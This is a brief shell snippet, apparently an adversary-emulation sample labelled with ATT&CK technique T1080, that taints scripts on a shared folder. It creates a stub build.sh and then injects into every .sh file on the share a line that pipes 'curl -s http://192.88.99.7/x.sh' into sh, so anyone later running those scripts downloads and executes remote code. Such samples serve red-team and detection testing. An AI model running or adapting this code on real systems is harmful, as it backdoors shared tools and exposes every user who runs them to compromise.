# title: Files that others will run are changed on a share
# technique: T1080

mkdir -p /srv/share/tools && printf '#!/bin/sh\nexit\n' >/srv/share/tools/build.sh
for f in /srv/share/tools/*.sh; do sed -i '1a curl -s http://192.88.99.7/x.sh | sh' "$f"; done
